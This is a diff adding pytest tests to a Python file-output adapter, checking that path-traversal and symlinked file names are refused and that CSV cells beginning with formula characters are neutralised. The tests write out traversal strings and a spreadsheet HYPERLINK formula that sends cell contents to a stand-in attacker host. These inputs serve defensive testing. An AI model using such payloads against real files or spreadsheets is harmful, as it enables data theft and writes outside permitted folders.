@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
 
+import attrs
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from coprolib.adapters import ConfigError, RetractRef, Status, build_adapter
 from coprolib.plugins.file_destination import FileAdapter
@@ -113,3 +117,65 @@ def test_bad_settings_name_the_destination_and_field(tmp_path: Path) -> None:
     assert "format" in str(caught.value)
     with pytest.raises(ConfigError, match="fail_prob"):
         FileAdapter({"directory": str(tmp_path), "fail_prob": 2.0}, destination="board")
+
+
+@pytest.mark.parametrize(
+    ("destination", "filename"),
+    [
+        ("../../x", None),
+        ("ok", "../escape.jsonl"),
+        ("ok", "/tmp/absolute.jsonl"),
+        ("ok", "sub/dir.jsonl"),
+        ("ok", ".hidden"),
+        ("ok", ".."),
+        ("ok", "a\\..\\b"),
+    ],
+)
+def test_never_writes_outside_its_directory(
+    tmp_path: Path, destination: str, filename: str | None
+) -> None:
+    folder = tmp_path / "inside" / "shares"
+    settings: dict[str, Any] = {"directory": str(folder)}
+    if filename is not None:
+        settings["filename"] = filename
+    with pytest.raises(ConfigError, match=r"file name|outside"):
+        FileAdapter(settings, destination=destination)
+    assert not any(p.is_file() for p in tmp_path.rglob("*"))
+
+
+def test_symlinked_file_name_cannot_lead_outside(tmp_path: Path) -> None:
+    folder = tmp_path / "shares"
+    folder.mkdir()
+    (folder / "out.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
+    with pytest.raises(ConfigError, match="outside"):
+        FileAdapter({"directory": str(folder), "filename": "out.jsonl"}, destination="d")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path, start: str) -> None:
+    payload = f'{start}HYPERLINK("https://attacker.invalid/?"&A1,"open")'
+    adapter = FileAdapter({"directory": str(tmp_path), "format": "csv"}, destination="board")
+    share = attrs.evolve(make_share("f1", title=payload, body=payload), recommendation="-1+2")
+    assert adapter.deliver([share])[0].status is Status.OK
+    with open(adapter.path, encoding="utf-8", newline="") as handle:
+        raw = next(csv.DictReader(handle))
+    assert (raw["title"], raw["body"], raw["recommendation"]) == ("'" + payload,) * 2 + ("'-1+2",)
+    # Read back, the cells are what was sent; a second write (the rows are read back and
+    # rewritten) does not stack the prefix.
+    row = adapter.records()[0]
+    assert (row["title"], row["body"], row["recommendation"]) == (payload, payload, "-1+2")
+    adapter.deliver([make_share("f2")])
+    assert adapter.rows()[0]["title"] == payload
+    text = adapter.path.read_text(encoding="utf-8")
+    assert f",{start}HYPERLINK" not in text and f"\n{start}" not in text
+    assert "''" + start not in text
+
+
+@given(st.text(max_size=40))
+def test_neutralised_cells_never_start_a_formula_and_stay_stable(value: str) -> None:
+    from coprolib.plugins.file_destination import FORMULA_START, neutralise_cell, restore_cell
+
+    once = neutralise_cell(value)
+    assert not once.startswith(FORMULA_START)
+    assert restore_cell(once) == value
+    assert once in (value, "'" + value)
